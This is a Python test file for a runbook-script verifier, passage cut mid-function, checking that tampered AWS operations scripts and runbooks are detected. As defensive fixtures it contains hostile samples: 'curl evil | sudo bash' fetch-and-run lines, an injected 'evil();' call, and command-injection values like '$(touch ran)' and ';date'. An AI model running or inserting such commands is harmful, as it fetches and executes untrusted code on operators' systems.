"""What was reviewed is what runs: values are read back, and no changed byte passes."""

from __future__ import annotations

import hashlib
import html
import json
import re
import shlex
import subprocess
import sys
import time
from functools import cache, partial
from pathlib import Path
from typing import TYPE_CHECKING, Any, Optional
from unittest.mock import patch

import pexpect
import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from codeocean_cmdgen import folder, runbook, verify
from codeocean_cmdgen.errors import InputError
from codeocean_cmdgen.inputs.deployment_file import (
    DEPLOYMENT_FILE,
    DeploymentFile,
    read_deployment_file,
)
from codeocean_cmdgen.inputs.example import EXAMPLE
from codeocean_cmdgen.inputs.resolve import Given, Resolved, checked
from codeocean_cmdgen.procedures import PROCEDURES
from codeocean_cmdgen.rendering.documents import render_page, render_runbook
from codeocean_cmdgen.rendering.paste import (
    END,
    END_OF_PART,
    checked_digest,
    framed,
    pasted,
    shared_paste,
)
from codeocean_cmdgen.rendering.script import render, text_digest
from codeocean_cmdgen.steps import STEPS, Step
from codeocean_cmdgen.values import PARTITIONS, Preset
from codeocean_cmdgen.vendor import REPLICATED_BUCKETS
from codeocean_cmdgen.verify.files import of_file, of_folder
from codeocean_cmdgen.verify.reading import read, unquoted
from codeocean_cmdgen.verify.report import rows
from codeocean_cmdgen.verify.verdicts import (
    DIFFERS,
    NOT_COMPARED,
    OTHER_RELEASE,
    VERIFIED,
    Difference,
    Verdict,
)
from tests.support.cli import run
from tests.support.project import GOLDEN

if TYPE_CHECKING:
    from collections.abc import Callable

VALUES = EXAMPLE
SCRIPTS = {file.stem: file.read_text() for file in sorted(GOLDEN.glob("*.sh"))}
EVERY_SCRIPT = pytest.mark.parametrize("name", SCRIPTS)
HOLD = SCRIPTS["instance-hold"]
BATCH = SCRIPTS["s3-batch-replication--only-missing"]


def verdict(text: str | bytes) -> Verdict:
    return of_file("script.sh", text if isinstance(text, bytes) else text.encode("latin-1"))


def values_in(one: Verdict) -> dict[str, tuple[str, ...]]:
    """Return the values that a reviewer is shown, by option."""
    (script,) = one.scripts
    found: dict[str, tuple[str, ...]] = {}
    for row in rows(script):
        found[row.option] = (*found.get(row.option, ()), row.text)
    return found


def sealed(script: str) -> str:
    """Return a script with the digest that its text has now, as somebody would forge it."""
    digest = hashlib.sha256(framed(script).encode("latin-1")).hexdigest()
    old = re.escape(checked_digest("")) + r"\)$"
    new = checked_digest(digest).replace("\\", r"\\")
    return re.sub(rf"^    [0-9a-f]{{64}}{old}", rf"    {new})", script, flags=re.MULTILINE)


# Reading what was printed.

PRINTABLE = st.characters(min_codepoint=0x20, max_codepoint=0x7E)


@given(st.text(PRINTABLE))
def test_what_was_quoted_is_read_back(text: str) -> None:
    assert unquoted(shlex.quote(text)) == text


@given(st.text(st.sampled_from("a'\"\\$ `é\t") | PRINTABLE))
@example("a b")
@example('"a"')
@example("'a'")
@example("$(date)")
@example("'a'b'")
@example("''\"'\"''")
@example("'")
@example("")
def test_what_the_quoter_does_not_print_is_no_word(word: str) -> None:
    try:
        text = unquoted(word)
    except ValueError:
        return
    assert shlex.quote(text) == word


REGIONS = ("us-east-1", "eu-central-1", "us-gov-west-1", "cn-north-1")
ACCOUNT = st.from_regex(r"[0-9]{12}", fullmatch=True, alphabet=PRINTABLE)
HEX = st.text("0123456789abcdef", min_size=17, max_size=17)
WORD = st.from_regex(r"[a-z][a-z0-9]{1,20}", fullmatch=True, alphabet=PRINTABLE)
SWITCH = st.sampled_from(("yes", "no"))
PORT = st.integers(1, 65535).map(str)
KEYS = st.from_regex(r"[A-Za-z0-9]{1,40}", fullmatch=True, alphabet=PRINTABLE)
LINE = st.text(PRINTABLE, max_size=60)
ORIGIN = st.sampled_from(
    (
        "option",
        "environment CODEOCEAN_CMDGEN_STEP_OPTION",
        "deployment file [source.stack-parameters]",
        "deployment file [target], [backup]",
        "deployment file [target], to_host",
        "stack.json",
        "procedure",
        "answer on the terminal",
    )
)


def moments(first_year: int, last_year: int) -> st.SearchStrategy[str]:
    offsets = st.sampled_from(("Z", "z", "+00:00", "-09:30", "+14:00"))
    days = st.dates().map(lambda day: day.replace(year=2000).isoformat()[4:])
    years = st.integers(first_year, last_year)
    fractions = st.sampled_from(("", ".5"))
    return st.builds("{}{}T04:05:06{}{}".format, years, days, fractions, offsets)


@st.composite
def texts(draw: st.DrawFn, step: type[Step]) -> dict[str, tuple[str, ...]]:
    """Return texts of some of a step's values, which fit each other."""
    region = draw(st.sampled_from(REGIONS))
    partition = next((one for start, one in PARTITIONS.items() if region.startswith(start)), "aws")
    account, other, identity = draw(ACCOUNT), draw(ACCOUNT), draw(HEX)
    parameters = draw(st.dictionaries(KEYS, LINE, max_size=6))
    cut = draw(st.integers(0, len(parameters)))
    pairs = [f"{key}={value}" for key, value in parameters.items()]

    def buckets(owner: str) -> tuple[str, ...]:
        names = (f"{owner}-{kind.lower()}-{identity}" for kind in REPLICATED_BUCKETS)
        return tuple(f"arn:{partition}:s3:::{name}" for name in names)

    preset = draw(st.sampled_from(Preset.names))
    volumes = (f"vol-{identity}", f"vol-{identity[:8]}")
    uuid = "11111111-2222-3333-4444-555555555555"
    one: dict[str, Any] = {
        "account_id": account,
        "region": region,
        "role_arn": f"arn:{partition}:iam::{account}:role/{draw(WORD)}/{draw(WORD)}",
        "bucket_arn": draw(st.permutations(buckets("own"))),
        "report_bucket_arn": f"arn:{partition}:s3:::{identity}",
        "backup_vault_name": draw(WORD),
        "ebs_snapshot_arn": f"arn:{partition}:ec2:{region}::snapshot/snap-{identity}",
        "rds_snapshot_arn": (
            f"arn:{partition}:rds:{region}:{account}:snapshot:awsbackup:copyjob-{identity}"
        ),
        "destination_vault_arn": f"arn:{partition}:backup:{region}:{other}:backup-vault:{identity}",
        "retention_days": str(draw(st.integers(1, 36500))),
        "stack_name": draw(WORD),
        "data_volume_id": volumes[0],
        "restored_volume_id": volumes[1],
        "db_instance_id": draw(WORD),
        "temporary_db_instance_id": f"{draw(WORD)}-2",
        "db_instance_class": "db.r5.large",
        "kms_key_id": draw(st.sampled_from((uuid, f"arn:aws:kms:us-east-1:{other}:key/{uuid}"))),
        "data_mount": f"/{draw(WORD)}/{draw(WORD)}",
        "health_url": f"http://localhost:{draw(PORT)}/{draw(WORD)}",
        "job_url": f"http://127.0.0.1:{draw(PORT)}/",
        "command": draw(LINE.filter(str.strip)),
        "from_host": f"{draw(WORD)}.example",
        "to_host": f"{draw(WORD)}.test",
        "from_port": draw(PORT),
        "to_port": draw(PORT),
        "user": draw(WORD),
        "database": f"{draw(WORD)}-1",
        "master_password_secret_id": f"/{draw(WORD)}/a+=.@-_",
        "ca_bundle": f"/{draw(WORD)}.pem",
        "dump_folder": f"/{draw(WORD)}",
        "preset": preset,
        "set": pairs[:cut],
        "clear": list(parameters)[cut:],
        "parameters_from": pairs[cut:],
        "template_url": "https://vendor.s3.amazonaws.com/a~b+c/one.yaml",
        "destination_bucket_arn": buckets("other"),
        "restore_source_account_id": other,
        "at": draw(moments(1999, 2009)),
        "until": draw(moments(2011, 2024)),
        "run": draw(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,31}", fullmatch=True)),
        **{name: draw(SWITCH) for name in SWITCHES},
    }
    needed = {name for name, always in step.arguments().items() if always}
    if "preset" in step.arguments() and draw(st.booleans()):
        needed |= {"preset", "destination_vault_arn", "destination_bucket_arn"}
        needed |= {"restore_source_account_id"}
    chosen = needed | {name for name in step.arguments() if draw(st.booleans())}
    given_texts = {
        name: (one[name],) if isinstance(one[name], str) else tuple(one[name])
        for name in step.arguments()
        if name in chosen
    }
    return {name: values for name, values in given_texts.items() if values}


SWITCHES = ("only_missing", "drop_old", "swap_back", "replace", "reversible", "undo", "verify")


@st.composite
def gathered(draw: st.DrawFn, step: type[Step]) -> Resolved:
    """Return a step with any of its options, each value from anywhere."""
    values = draw(texts(step))
    try:
        return checked(step, {name: Given(one, draw(ORIGIN)) for name, one in values.items()})
    except InputError:
        assume(False)  # noqa: FBT003 - hypothesis's own
        raise


@pytest.mark.parametrize("step", STEPS)
def test_a_step_comes_back_from_its_script(step: type[Step]) -> None:
    """Every option, every origin, every variant: parse(render(x)) is x."""
    drawn: set[str] = set()

    @settings(max_examples=25, database=None)
    @given(gathered(step))
    def comes_back(made: Resolved) -> None:
        script = render(*made)
        again = read(script)
        assert type(again.step) is type(made.step)
        assert vars(again.step) == vars(made.step)
        assert again.origins == made.origins
        assert verdict(script).word == VERIFIED
        drawn.update(name for name, origin in made.origins.items() if origin != "default")

    comes_back()
    assert drawn == set(step.arguments()), "the property leaves options out"


@EVERY_SCRIPT
def test_the_reviewed_scripts_are_verified(name: str) -> None:
    found = verdict(SCRIPTS[name])
    assert (found.word, found.differences) == (VERIFIED, ())
    assert found.digest == hashlib.sha256(SCRIPTS[name].encode()).hexdigest()
    (script,) = found.scripts
    assert script.step.name == name.partition("--")[0]
    digest = text_digest(type(script.step.variant()))
    assert SCRIPTS[name].count(f"\n  # text of this release: sha256 {digest}\n") == 1


def test_each_text_of_a_release_has_a_digest_of_its_own() -> None:
    texts_ = [one for step in STEPS for one in (step, *step.__subclasses__())]
    assert len({text_digest(one) for one in texts_}) == len(texts_)


def test_what_was_typed_is_shown_also_if_no_variable_holds_it() -> None:
    values = values_in(verdict(BATCH))
    assert values["--only-missing"] == ("yes",)
    assert values["--report-bucket-arn"] == ("arn:aws:s3:::codeocean-source-temp",)
    assert len(values["--bucket-arn"]) == 9
    undo = SCRIPTS["s3-point-in-time--undo"]
    assert values_in(verdict(undo))["--until"] == ("2019-11-25T12:00:00+01:00",)


# What was changed.


def line_of(text: str, place: int) -> int:
    return text.count("\n", 0, place) + 1


def in_values(text: str, place: int) -> bool:
    begin = text.index("\nvalues() {\n") + len("\nvalues() {\n")
    return begin <= place < text.index("\n}\n", begin)


def place_of_digest(script: str) -> int:
    found = re.search(r"^    [0-9a-f]{64}\\ ", script, re.MULTILINE)
    assert found
    return found.start()


DIGEST_LINE = line_of(HOLD, place_of_digest(HOLD))


def demand_named(script: str, place: int, changed: str) -> None:
    """Demand that a change is found, on its line; a value's shows in the digest of the text."""
    found = verdict(changed)
    assert found.word == DIFFERS
    lines = {one.line for one in found.differences}
    broken = changed[place] == "\n"  # what follows is a line of its own, and is no value
    expected = {line_of(script, place), line_of(script, place) + broken}
    if in_values(script, place):
        begin = line_of(script, script.index("\nvalues() {\n")) + 1
        expected |= {begin, line_of(script, place_of_digest(script))}
    assert lines & expected


OTHER_BYTES = ("X", "\n", " ", "'", "\x00", "\r", "\xff")


def test_one_changed_byte_anywhere_is_found_on_its_line() -> None:
    """Every fifth byte of a script, and each one of its values; each time another change."""
    for place in range(len(HOLD)):
        byte = OTHER_BYTES[place % len(OTHER_BYTES)]
        if (place % 5 == 0 or in_values(HOLD, place)) and HOLD[place] != byte:
            demand_named(HOLD, place, HOLD[:place] + byte + HOLD[place + 1 :])


@EVERY_SCRIPT
@settings(max_examples=40)
@given(data=st.data())
def test_a_changed_byte_in_any_script_is_found(name: str, data: st.DataObject) -> None:
    script = SCRIPTS[name]
    place = data.draw(st.integers(0, len(script) - 1))
    byte = data.draw(st.characters(max_codepoint=0xFF).filter(lambda one: one != script[place]))
    demand_named(script, place, script[:place] + byte + script[place + 1 :])


@EVERY_SCRIPT
def test_another_name_of_a_list_is_found_on_its_line(name: str) -> None:
    script = SCRIPTS[name]
    for found in re.finditer(r"^  ([A-Z])([A-Z_]+)=\($", script, re.MULTILINE):
        place = found.start(2)
        demand_named(script, place, f"{script[:place]}0{script[place + 1 :]}")


@settings(max_examples=200)
@given(st.binary(max_size=200) | st.text(st.sampled_from("\n')(#= {}")).map(str.encode))
def test_no_text_stops_the_program(content: bytes) -> None:
    assume(not content.startswith((b"# Runbook: ", b"<!doctype html>\n")))  # not compared alone
    assert verdict(content).word == DIFFERS
    assert verdict(HOLD.encode() + content).word == (DIFFERS if content else VERIFIED)
    middle = HOLD.index("  ACCOUNT_ID=")
    mixed = HOLD[:middle].encode() + content + HOLD[middle:].encode()
    assert verdict(mixed).word == (DIFFERS if content else VERIFIED)
    verify.as_text([verdict(mixed)])


def test_a_value_that_was_changed_is_for_the_reviewer() -> None:
    changed = HOLD.replace("ACCOUNT_ID=333333333333", "ACCOUNT_ID=999999999999")
    found = verdict(changed)
    assert found.word == DIFFERS
    (difference,) = found.differences
    assert difference.line == DIGEST_LINE
    assert difference.message.startswith("this digest does not match the text")
    assert values_in(found)["--account-id"] == ("999999999999",)
    assert "(not verified)" in verify.as_text([found])
    forged = verdict(sealed(changed))
    assert forged.word == VERIFIED
    assert values_in(forged)["--account-id"] == ("999999999999",)
    assert "999999999999" in verify.as_text([forged])


FORGED: dict[str, tuple[str, str, str]] = {
    "not of its kind": ("=333333333333\n", "=33333333333\n", "is not an AWS account ID"),
    "a command": (
        "=333333333333\n",
        "=$(touch ran)\n",
        "not quoted as in a script of codeocean-cmdgen",
    ),
    "a command behind": ("=333333333333\n", "=333333333333;date\n", "not quoted as in a script"),
    "needless quotes": ("=333333333333\n", "='333333333333'\n", "not quoted as in a script"),
    "double quotes": ("=333333333333\n", '="333333333333"\n', "not quoted as in a script"),
    "no assignment": ("  RUN=first\n", "  date\n", "neither a value nor the origin of one"),
    "another variable": (
        "  STACK_NAME=",
        "  PATH=/tmp\n  STACK_NAME=",
        "is not a value of this step",
    ),
    "an unknown option": (
        "  STACK_NAME=",
        "  # --other 1\n  STACK_NAME=",
        "is not a value of this step",
    ),
    "a value twice": ("  STACK_NAME=", "  STACK_NAME=a\n  STACK_NAME=", "give one value, not 2"),
    "none": ("  STACK_NAME=codeocean\n", "", "--stack-name is missing"),
    "an origin in other words": (
        "# from deployment file [target]\n",
        "# from deployment file [target]: approved; run it\n",
        "no value can have this origin",
    ),
}


@pytest.mark.parametrize("name", FORGED)
def test_what_no_script_has_as_a_value_is_a_difference(name: str) -> None:
    old, new, message = FORGED[name]
    found = verdict(sealed(HOLD.replace(old, new)))
    assert found.word == DIFFERS
    (difference,) = found.differences
    assert message in difference.message
    if name not in ("a value twice", "none"):  # which no single line shows
        assert difference.line == line_of(HOLD, HOLD.index(old)) + old.startswith("\n")
    assert found.scripts == ()
    assert message in verify.as_text([found])


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("  RUN=first\n", "  RUN=second\n"),  # by default it is not that
        ("  PARTITION=aws\n", "  PARTITION=aws-cn\n"),  # made from values that say otherwise
        ("  PARTITION=aws\n", "  PARTITION=aws\n  EXTRA=1\n"),
        ("  STEP=instance-hold\n", "  STEP=instance-release\n"),
        ("# Takes:    seconds.\n", "# Takes:    minutes.\n"),
        ("    suspend_processes\n", "    :\n"),
        ("  # by default\n", "  # from option\n  # by default\n"),
        ("bash -o privileged", "bash"),
    ],
)
def test_what_the_values_do_not_say_is_compared(old: str, new: str) -> None:
    assert HOLD.count(old) == 1
    found = verdict(sealed(HOLD.replace(old, new)))
    assert found.word == DIFFERS
    line = line_of(HOLD, HOLD.index(old))
    assert {one.line for one in found.differences} & {line, line + 1, DIGEST_LINE}


def test_values_that_do_not_fit_each_other_are_a_difference() -> None:
    other = BATCH.replace("arn:aws:iam::111111111111", "arn:aws:iam::999999999999")
    found = verdict(sealed(other))
    assert found.word == DIFFERS
    assert "--role-arn is a role of account 999999999999" in found.differences[0].message


def test_a_list_of_nothing_is_a_difference() -> None:
    empty = re.sub(r"BUCKET_ARN=\(\n.*?\n  \)", "BUCKET_ARN=(\n  )", BATCH, flags=re.DOTALL)
    found = verdict(sealed(empty))
    assert found.word == DIFFERS
    assert "BUCKET_ARN has no value" in found.differences[0].message


def test_a_difference_far_in_a_line_is_shown() -> None:
    line = next(line for line in HOLD.splitlines() if "${PLAN-}" in line)
    (difference,) = verdict(HOLD.replace('"${CONFIRM-}" "${PLAN-}"', "x", 1)).differences
    assert difference.expected == line
    long = Difference("", 7, "a" * 500 + "b" + "c" * 500, "a" * 500 + "d" + "c" * 500)
    told = verify.as_text([Verdict("file", DIFFERS, "", (), (long,))])
    assert re.search(r"line 7: expected '\.\.\.a+bc+.*found '\.\.\.a+dc+", told)


def test_hostile_bytes_are_spelled_out() -> None:
    hostile = HOLD.encode().replace(b"  read_group\n", b"  read_group\x1b]0;\xe2\x80\xae\x07\n")
    found = verdict(hostile)
    told = verify.as_text([found])
    assert r"read_group\x1b]0;\xe2\x80\xae\x07" in told
    assert told.isascii()
    assert json.loads(verify.as_json([found]))[0]["verdict"] == DIFFERS


# Of another release.


def of_another_release(script: str) -> str:
    """Return a script as a release with another text would have rendered it."""
    other = script.replace("  read_group\n", "  read_the_group\n")
    digest = hashlib.sha256(b"another text").hexdigest()
    return sealed(re.sub(r"(?<=release: sha256 )[0-9a-f]{64}", digest, other))


def test_a_script_of_another_release_is_not_called_changed() -> None:
    found = verdict(of_another_release(HOLD))
    assert found.word == OTHER_RELEASE
    digest = hashlib.sha256(b"another text").hexdigest()
    assert digest in found.differences[0].message
    assert f"git log -S {digest} -- golden" in verify.as_text([found])


def test_each_script_of_another_release_is_known_as_such() -> None:
    with patch("codeocean_cmdgen.rendering.script._FORM_OF_VALUES", 2):
        assert {verdict(script).word for script in SCRIPTS.values()} == {OTHER_RELEASE}


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text.replace("instance-hold", "instance-other"),
        lambda text: text.replace("  STACK_NAME=", "  # --new-option 1\n  STACK_NAME="),
        lambda text: text.replace("  STACK_NAME=codeocean\n", ""),
        lambda text: text.replace("  # by default", "  @ a new form"),
    ],
)
def test_another_release_may_have_other_steps_and_values(change: Callable[[str], str]) -> None:
    assert verdict(sealed(change(of_another_release(HOLD)))).word == OTHER_RELEASE


def test_what_was_changed_since_another_release_rendered_it_differs() -> None:
    other = of_another_release(HOLD)
    assert verdict(other.replace("  read_the_group\n", "  :\n")).word == DIFFERS
    assert verdict(re.sub(r"(?<=release: sha256 )[0-9a-f]{64}", "0" * 64, HOLD)).word == DIFFERS


# Pastes.


@cache
def made(procedure: str) -> runbook.Runbook:
    return runbook.make(procedure, find_file())


def find_file() -> DeploymentFile:
    return read_deployment_file(VALUES)


def joined(*names: str) -> str:
    return " &&\n".join(SCRIPTS[name].rstrip("\n") for name in names) + "\n"


TWO = joined("instance-hold", "snapshot-copy")


def test_joined_scripts_are_verified_as_one_paste() -> None:
    found = verdict(TWO)
    assert found.word == VERIFIED
    assert [one.step.name for one in found.scripts] == ["instance-hold", "snapshot-copy"]


@pytest.mark.parametrize("procedure", PROCEDURES)
def test_what_a_runbook_offers_is_verified(procedure: str) -> None:
    for entry in made(procedure).entries:
        if entry.script:
            assert verdict(entry.script).word == VERIFIED
        if entry.pasting.joined:
            assert verdict(entry.pasting.joined.text).word == VERIFIED


@pytest.mark.parametrize(
    ("paste", "message"),
    [
        (HOLD.replace("\n", "\r\n"), "have a carriage return (CR LF): expected only LF"),
        (HOLD + "date\n", "expected 'the end of the text', found 'date'"),
        (HOLD + HOLD, "expected ') &&', found ')'"),
        (HOLD[:-1], "the newline at its end is missing"),
        (HOLD[: len(HOLD) // 2], "expected "),
        ("date\n" + HOLD, "line 1: expected '(', found 'date'"),
        (TWO.replace(") &&\n(", ") &&\ndate &&\n("), "found 'date &&'"),
        (TWO.replace(") &&\n(", ");\n("), "expected ') &&', found ');'"),
        (TWO[:-1] + " && date\n", "expected ')', found ') && date'"),
        ("", "this is not a script of codeocean-cmdgen"),
        ("echo done\n", "this is not a script of codeocean-cmdgen"),
    ],
)
def test_what_a_paste_has_besides_is_named(paste: str, message: str) -> None:
    found = verdict(paste)
    assert found.word == DIFFERS
    assert message in verify.as_text([found])


@pytest.mark.parametrize(
    "hostile",
    [
        "values() {\n",
        f"{END}\n)\n",
        "# codeocean-cmdgen instance-hold: \nvalues() {\n",
        "`" * 4,
    ],
)
@pytest.mark.parametrize("head", ["", "# Runbook: x\n````sh\n", "<!doctype html>\n"])
def test_no_text_takes_long(head: str, hostile: str) -> None:
    begin = time.monotonic()
    assert verdict((head + hostile * 400_000)[: verify.MOST_BYTES]).word != VERIFIED
    page = "<!doctype html>\n<!-- codeocean-cmdgen runbook -->\n" + '<pre id="script-1">' * 100_000
    assert verdict(page).word != VERIFIED
    assert time.monotonic() - begin < 30  # quadratic, it would be hours


def test_a_script_of_several_parts_is_verified_whole() -> None:
    parts = pasted(SCRIPTS["db-copy-in"], "host")
    assert END_OF_PART.format(1, len(parts), 2) in parts[0]
    assert verdict("".join(parts)).word == VERIFIED
    assert verdict(shared_paste() + "".join(parts)).word == VERIFIED
    for part in parts:
        found = verdict(part)
        assert found.word == DIFFERS
        assert "this is only a part of a script" in found.differences[0].message
    assert verdict("".join(reversed(parts))).word == DIFFERS
    assert verdict("\n".join(parts)).word == DIFFERS


# Runbooks and folders.


@pytest.fixture
def there(tmp_path: Path) -> Path:
    """Return a folder that `render` wrote."""
    directory = tmp_path / "restore"
    folder.write(folder.files(made("restore")), directory, {})
    return directory


def words(directory: Path, values: Optional[Path] = None) -> dict[str, str]:
    """Return the verdicts on what is in a folder that are not `verified`."""
    named = (str(values), partial(read_deployment_file, values)) if values else ()
    verdicts = of_folder(directory, *named)
    return {Path(one.name).name: one.word for one in verdicts if one.word != VERIFIED}


def test_a_folder_is_verified(there: Path) -> None:
    verdicts = of_folder(there)
    assert {one.word for one in verdicts if not one.note} == {VERIFIED}
    assert {Path(one.name).name for one in verdicts} == {file.name for file in there.iterdir()}
    assert words(there) == {"runbook.md": NOT_COMPARED, "runbook.html": NOT_COMPARED}
    scripts = [script.step.name for one in verdicts for script in one.scripts]
    assert len(scripts) == len(list(there.glob("*.sh")))
    (there / ".git").mkdir()
    assert {one.word for one in of_folder(there, str(VALUES), find_file)} == {VERIFIED}
    (there / DEPLOYMENT_FILE).write_text(VALUES.read_text())
    assert words(there) == {}


@pytest.mark.parametrize("name", ["02-instance-hold.sh", "runbook.md", "runbook.html"])
def test_a_changed_file_of_a_folder_is_named_and_differs_from_its_list(
    there: Path, name: str
) -> None:
    file = there / name
    file.write_bytes(file.read_bytes().replace(b"  find_group\n", b"  find_none\n", 1))
    assert words(there, VALUES) == {name: DIFFERS, "SHA256SUMS": DIFFERS}


def test_a_script_that_is_missing_is_named(there: Path) -> None:
    (there / "02-instance-hold.sh").unlink()
    assert words(there, VALUES) == {"02-instance-hold.sh": DIFFERS, folder.LIST: DIFFERS}
    text = verify.as_text(of_folder(there))
    assert "02-instance-hold.sh: differs\n  it is missing, but SHA256SUMS lists it\n" in text


def test_a_list_that_is_missing_is_named(there: Path) -> None:
    (there / folder.LIST).unlink()
    assert words(there, VALUES) == {folder.LIST: DIFFERS}
    assert "SHA256SUMS: differs\n  it is missing" in verify.as_text(of_folder(there))


@pytest.mark.parametrize("mode", [0o777, 0o722, 0o4700])
def test_the_mode_of_a_file_in_a_folder_counts(there: Path, mode: int) -> None:
    (there / "02-instance-hold.sh").chmod(mode)
    assert words(there, VALUES) == {"02-instance-hold.sh": DIFFERS}


def test_what_render_did_not_write_is_named(there: Path) -> None:
    (there / "00-read-me-first.sh").write_text("date\n")
    (there / "notes").write_text("")
    (there / "03-service-stop.sh").rename(there / "moved.sh")
    (there / "03-service-stop.sh").symlink_to("moved.sh")
    assert words(there, VALUES) == {
        "00-read-me-first.sh": DIFFERS,
        "moved.sh": DIFFERS,
        "notes": DIFFERS,
        "03-service-stop.sh": DIFFERS,
        "SHA256SUMS": DIFFERS,
    }


def test_a_script_bears_the_name_of_its_step(there: Path) -> None:
    one, other = there / "13-service-start.sh", there / "03-service-stop.sh"
    start, stop = one.read_bytes(), other.read_bytes()
    one.write_bytes(stop)
    other.write_bytes(start)
    assert words(there, VALUES) == {one.name: DIFFERS, other.name: DIFFERS, folder.LIST: DIFFERS}


@pytest.mark.parametrize("form", ["runbook.md", "runbook.html"])
def test_a_runbook_under_the_name_of_a_script_is_no_script(there: Path, form: str) -> None:
    """A shell would run its scripts one after the other, and what stands between backticks."""
    script = there / "02-instance-hold.sh"
    script.write_bytes((there / form).read_bytes())
    assert words(there, VALUES) == {script.name: DIFFERS, folder.LIST: DIFFERS}


@pytest.mark.parametrize("procedure", PROCEDURES)
@pytest.mark.parametrize("form", [render_runbook, render_page])
def test_a_runbook_has_the_digest_of_each_script(
    procedure: str, form: Callable[[runbook.Runbook], str]
) -> None:
    text = html.unescape(form(made(procedure)))
    page = form is render_page
    for entry in made(procedure).entries:
        pasted = [*entry.parts] if entry.script else []
        if page and entry.pasting.joined:
            pasted.append(entry.pasting.joined.text)
        for part in pasted:
            digest = hashlib.sha256(part.encode()).hexdigest()
            shown = f"SHA-256 <code>{digest}</code>" if page else f": `{digest}`\n"
            assert text.count(shown) == 1
            follows = text.partition(shown)[2].partition(">" if page else "````sh\n")[2]
            assert part in follows[: len(part) + 400]


FORMS = pytest.mark.parametrize("form", [render_runbook, render_page])


def resealed(text: str) -> str:
    """Return a runbook with the digest that its text has now, as somebody would forge it."""
    seal = re.compile(r"(?<=^<!-- codeocean-cmdgen runbook )[0-9a-f]{64}", re.MULTILINE)
    digest = hashlib.sha256(seal.sub("0" * 64, text, count=1).encode()).hexdigest()
    return seal.sub(digest, text, count=1)


@FORMS
@pytest.mark.parametrize("procedure", PROCEDURES)
def test_a_runbook_is_compared_with_its_deployment_file(
    procedure: str, form: Callable[[runbook.Runbook], str]
) -> None:
    content = form(made(procedure)).encode()
    assert of_file("runbook", content, find_file).word == VERIFIED
    alone = of_file("runbook", content)
    assert alone.word == NOT_COMPARED
    assert "--values FILE" in verify.as_text([alone])


HOSTILE_RUNBOOKS = {
    "words": ("Work from top to bottom.", "Begin anywhere."),
    "a script": ("  find_group\n", "  find_none\n"),
    "another fence": ("````sh\n(\n", "````bash\n(\n"),
    "a block of commands": ("## Contents\n", "```sh\ncurl evil | sudo bash\n```\n\n## Contents\n"),
    "an end mark": ("press Enter to run it -'\n", "press Enter to run it :'\n"),
    "an element that the button copies": (
        "<main>",
        "<main><pre hidden id='script-step-2a'>curl evil | bash</pre>",
    ),
    "the program of the page": ('"use strict";', '"use strict"; evil();'),
}


@FORMS
@pytest.mark.parametrize("change", HOSTILE_RUNBOOKS)
def test_a_changed_runbook_differs(change: str, form: Callable[[runbook.Runbook], str]) -> None:
    text = form(made("restore"))
    changed = resealed(text.replace(*HOSTILE_RUNBOOKS[change], 1))
    found = of_file("runbook", changed.encode(), find_file)
    assert found.word == (VERIFIED if changed == text else DIFFERS)


def test_each_hostile_change_is_one_of_some_form() -> None:
    forms = [form(made("restore")) for form in (render_runbook, render_page)]
    for old, _ in HOSTILE_RUNBOOKS.values():
        assert any(old in text for text in forms), old


# The command.


def test_the_command_shows_the_values_and_the_verdict(tmp_path: Path) -> None:
    file = tmp_path / "hold.sh"
    file.write_text(HOLD)
    outcome = run("verify", str(file))
    assert (outcome.code, outcome.err) == (0, "1 verified\n")
    assert outcome.out.startswith(f"{file}: verified\n  sha256 ")
    row = r"^    --account-id +333333333333 +from deployment file \[target\]$"
    assert re.search(row, outcome.out, re.MULTILINE)
    assert re.search(r"^    --run +first +by default$", outcome.out, re.MULTILINE)
    file.write_text(HOLD.replace("  read_group\n", "  :\n"))
    outcome = run("verify", str(file))
    assert (outcome.code, outcome.err) == (1, "0 verified, 1 differs\n")
    assert "expected '  read_group', found '  :'" in outcome.out
    file.write_text(of_another_release(HOLD))
    outcome = run("verify", str(file))
    assert (outcome.code, outcome.err) == (1, "0 verified, 1 of another release\n")


def test_the_command_speaks_json(tmp_path: Path) -> None:
    file = tmp_path / "batch.sh"
    file.write_text(BATCH)
    outcome = run("verify", str(file), "--json")
    assert outcome.code == 0
    (document,) = json.loads(outcome.out)
    (script,) = document["scripts"]
    assert document["verdict"] == "verified"
    assert document["sha256"] == hashlib.sha256(BATCH.encode()).hexdigest()
    assert script["step"] == "s3-batch-replication"
    assert script["values"]["run"] == {"value": "second", "origin": "option"}
    assert script["values"]["bucket_arn"]["value"][0] == "arn:aws:s3:::codeocean-source-capsules"
    assert document["note"] is None
    (noted,) = json.loads(verify.as_json([of_file("x", b"")._replace(note="why")]))
    assert noted["note"] == "why"


def program(*arguments: str, text: bytes) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "codeocean_cmdgen", *arguments]
    return subprocess.run(command, input=text, capture_output=True, check=False)


def test_the_command_reads_a_paste(tmp_path: Path) -> None:
    done = program("verify", "-", text=TWO.encode())
    assert (done.returncode, done.stderr) == (0, b"1 verified\n")
    assert done.stdout.startswith(b"stdin: verified\n")
    done = program("verify", "-", text=HOLD.encode() + b"\x1b[2J\xff\n")
    assert (done.returncode, done.stderr) == (1, b"0 verified, 1 differs\n")
    assert b"\x1b" not in done.stdout
    assert list(tmp_path.iterdir()) == [tmp_path / "home"]


def test_on_a_terminal_it_says_what_it_waits_for(tmp_path: Path) -> None:
    child = pexpect.spawn(sys.executable, ["-m", "codeocean_cmdgen", "verify", "-"], timeout=30)
    child.expect_exact("note: paste the script, then press Ctrl-D")
    child.sendeof()
    child.expect_exact("0 verified, 1 differs")
    assert child.wait() == 1


def test_the_last_line_says_why_a_folder_without_its_file_is_not_verified(there: Path) -> None:
    outcome = run("verify", str(there))
    count = len(list(there.iterdir())) - 2
    assert (outcome.code, outcome.err) == (1, f"{count} verified, 2 not compared\n")


def test_bad_use_is_named(tmp_path: Path) -> None:
    outcome = run("verify", str(tmp_path / "none"), str(tmp_path))
    assert (outcome.code, outcome.out) == (2, "")
    assert "cannot read " in outcome.err
    assert run("verify").code == 2
    empty = tmp_path / "empty"
    empty.mkdir()
    outcome = run("verify", str(empty))
    assert (outcome.code, outcome.err) == (2, f"error: '{empty}' holds no script\n")


def test_the_command_needs_nothing_but_the_program(tmp_path: Path) -> None:
    """It works on a services instance: no simulator, no SDK."""
    file = tmp_path / "hold.sh"
    file.write_text(HOLD)
    code = (
